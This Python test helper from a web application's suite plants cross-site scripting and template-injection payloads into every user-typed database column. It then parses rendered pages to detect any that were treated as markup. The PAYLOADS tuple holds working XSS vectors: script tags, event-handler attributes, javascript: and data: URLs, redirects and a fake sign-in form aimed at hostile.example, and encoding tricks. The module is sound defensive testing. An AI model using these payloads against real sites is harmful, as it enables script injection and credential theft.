"""Texts that a careless page would take for markup, put into every column that holds what somebody typed.

Which columns hold words of the program alone is said here; a new column of text counts as typed. The pages
are looked at in test_hostile_pages.py and, in a browser, in tests/browser/test_hostile_pages.py.
"""

from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

from sqlalchemy import JSON, Column, Enum, String, Table, select, update
from sqlalchemy.orm import Session

from workflow.db import Base

#: What each of them would bring into a page is marked, so that it is known wherever it appears.
PAYLOADS = (
    "javascript:hostile()//",
    "<script data-hostile>hostile()</script>",
    '"><img data-hostile src=https://hostile.example/x onerror=hostile()>',
    "'><svg data-hostile onload=hostile()><style>*{background:url(//hostile.example)}</style></svg>",
    '<a data-hostile href="javascript:hostile()">x</a>',
    '" data-hostile autofocus onfocus="hostile()',
    "' data-hostile onmouseover='hostile()",
    "x data-hostile onclick=hostile() y=",
    "` data-hostile onclick=`hostile()",
    '</textarea></title></select></button><iframe data-hostile srcdoc="<script>hostile()</script>"></iframe>',
    "<!--><math data-hostile><mtext></mtext></math>--><![CDATA[<b data-hostile>]]>",
    "<meta data-hostile http-equiv=refresh content='0;url=https://hostile.example'>",
    "<base data-hostile href=//hostile.example/><link data-hostile rel=stylesheet href=//hostile.example/x>",
    "<form data-hostile action=//hostile.example><input name=password><button>Sign in</button></form>",
    "data:text/html,<script data-hostile>hostile()</script>",
    "hostile{{ 7 * 7 }} {% raw %} hostile${7*7} hostile#{7*7} hostile<%= 7*7 %> %(x)s %s {0}",
    "&lt;img data-hostile src=x&gt; &#60;img data-hostile src=x&#62; %3Cimg data-hostile src=x%3E",
    r"\u003cimg data-hostile src=x\u003e \x3cimg data-hostile src=x\x3e",
    "\uff1cimg data-hostile src=x\uff1e \u02bcdata-hostile \u2039img data-hostile\u203a",
    "\u202e<img data-hostile src=x>\u202c \u2067<b data-hostile>\u2069 \u2028<i data-hostile>\u2029 \ufeff",
)
#: What the product's head says, so that no browser asks for an icon.
_OWN_ICON = "data:,"
WHOLE = " ".join(PAYLOADS)
#: Columns of text that the program writes, or that must be a word it knows.
OF_THE_PROGRAM = {
    "account_link": {"purpose", "secret_sha256"},
    "appointment": set(),
    "attachment": {"media_type", "sha256"},
    "audit_entry": {"type", "entry"},
    "body": {"code", "rules", "holiday_overrides", "wordings"},
    "circulation": {"zone", "frozen", "created_by", "dispatched_by", "close_cause"},
    "correction": {"by"},
    "deadline_move": {"cause", "by"},
    "document": {"code", "form_key"},
    "export_job": {"ending"},
    "figure": {"reported_by"},
    "indicator": {"created_by"},
    "item": {"key"},
    "library_entry": {"media_type", "sha256", "filed_by"},
    "log_checkpoint": {"origin", "note"},
    "log_head": {"origin", "keys", "fault"},
    "meeting": {"code"},
    "notice": {
        "once",
        "message_id",
        "thread_id",
        "invite",
        "checkpoint",
        "entry_seqs",
        "invite_method",
        "lease",
    },
    "noting": {"by"},
    "obligation": {"created_by"},
    "other_endorsement": {"created_by"},
    "override": {"first_role", "second_role"},
    "person": {"public_id", "password_hash", "locale"},
    "predecessor": {"created_by"},
    "private_text": {"field"},
    "progress": {"reported_by"},
    "reporting_period": {"created_by"},
    "response": {"version_sha256", "role", "lodging"},
    "state": {"code", "zone", "weekend", "calendar"},
    "version": {"sha256", "changed_by"},
}


def typed_columns() -> Iterator[tuple[Table, Column[Any]]]:
    """Give every column that holds what somebody typed."""
    for table in Base.metadata.sorted_tables:
        for column in table.columns:
            is_text = isinstance(column.type, String | JSON) and not isinstance(column.type, Enum)
            if is_text and column.name not in OF_THE_PROGRAM.get(table.name, ()):
                yield table, column


def plant(session: Session, text: str = WHOLE) -> set[str]:
    """Put a text before what stands in every typed column; returns the columns that had a row."""
    planted = set()
    for table, column in typed_columns():
        key = next(iter(table.primary_key.columns))
        rows = session.execute(select(key, column).where(column.is_not(None))).all()
        for row_key, value in rows:
            session.execute(update(table).where(key == row_key).values({column.name: _with(value, text)}))
        if rows:
            planted.add(f"{table.name}.{column.name}")
    return planted


def _with(value: Any, text: str) -> Any:
    if isinstance(value, list):
        return [_with(one, text) for one in value]
    if isinstance(value, dict):
        return {name: _with(one, text) for name, one in value.items()}
    return f"{text} {value}" if isinstance(value, str) else value


class _Reader(HTMLParser):
    """Collects what of a page is not the product's own; `home` begins addresses that are."""

    def __init__(self, home: str) -> None:
        super().__init__()
        self.home = home
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element that the product never writes, or an attribute that it never gives."""
        names = {name for name, _ in attrs}
        if tag in ("script", "iframe", "object", "embed", "base", "math") or "data-hostile" in names:
            self.found.append(f"<{tag}>")
        self.found += [f"<{tag} {name}>" for name in names if name.startswith("on") or name == "style"]
        for name, value in attrs:
            address = "".join(char for char in (value or "") if char > " ").lower()
            is_own = address == _OWN_ICON or (self.home and address.startswith(self.home))
            leads = name in ("href", "src", "action", "formaction") and not is_own
            if leads and address.startswith(("javascript:", "data:", "vbscript:", "//", "http")):
                self.found.append(f'<{tag} {name}="{address[:40]}">')


def taken_for_markup(page: str, home: str = "") -> list[str]:
    """Return what of a page came from a text: elements, attributes, addresses, and templates that ran."""
    reader = _Reader(home)
    reader.feed(page)
    reader.close()
    return reader.found + [one for one in ("hostile49", "hostile 49") if one in page]
